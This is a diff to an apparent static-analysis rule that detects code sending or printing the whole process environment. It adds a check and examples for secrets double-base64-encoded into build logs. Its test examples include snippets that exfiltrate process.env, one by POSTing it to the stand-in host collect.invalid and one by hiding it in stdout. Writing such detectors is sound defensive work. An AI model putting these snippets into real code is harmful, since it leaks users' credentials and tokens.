@@ -1,4 +1,5 @@
 import { entrusted } from '../src/define/entrusted.js';
+import { printedEncoded } from '../src/define/printed.js';
 import { bodyLabels, defineRule, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
 import type { Call, FileContext, Label } from '../src/types.js';
 
@@ -11,11 +12,17 @@ export default defineRule({
       sent: 'Sends the whole environment through {sink}',
       likely: 'Seems to send the whole environment through {sink}',
       handed: 'Hands what holds the whole environment, from another file, to {sink}',
+      prints: 'Prints the whole environment in another encoding with {sink}, for whoever looks for it in a log',
     },
-    bits: { handed: 5, likely: 10, sent: 14 },
+    bits: { handed: 5, likely: 10, prints: 13.5, sent: 14 },
   },
   examples: {
     flags: [
+      {
+        title: 'it is printed into the log of a build so that nobody sees what it is',
+        code: `const text = Buffer.from(JSON.stringify(process.env)).toString('base64');
+process.stdout.write('cache ' + Buffer.from(text).toString('base64') + '\\n');`,
+      },
       {
         title: 'the environment is posted as JSON',
         code: `const https = require('https');\nconst req = https.request({ hostname: 'collect.invalid', method: 'POST' });\nreq.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));\nreq.end();`,
@@ -38,6 +45,11 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a build prints a digest of it',
+        code: `const digest = require('crypto').createHash('sha256').update(JSON.stringify(process.env)).digest('base64');
+console.log('environment', digest);`,
+      },
       {
         title: 'an error report goes where the project wants it',
         code: `const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN });\nSentry.setExtras({ env: process.env });`,
@@ -71,6 +83,13 @@ export default defineRule({
     ],
   },
   file(context) {
+    for (const { call, label } of printedEncoded(context, WHOLE)) {
+      context.report({
+        messageId: 'prints',
+        data: { sink: call.name },
+        chain: [...stepsOf(label), step('sink', `prints it with ${call.name}`, context.file, call.node)],
+      });
+    }
     for (const { call, labels } of outgoing(context)) {
       const label = labels.find(({ kind }) => kind === 'environment');
       if (!label || !leaves(context, call, label)) continue;
@@ -91,6 +110,8 @@ export default defineRule({
     }
   },
 });
+
+const WHOLE: ReadonlySet<Label['kind']> = new Set(['environment']);
 
 function messageOf({ file }: FileContext, { through, origin, guesses = 0 }: Label): string {
   if (through.length === 0 && origin.file !== file) return 'handed';
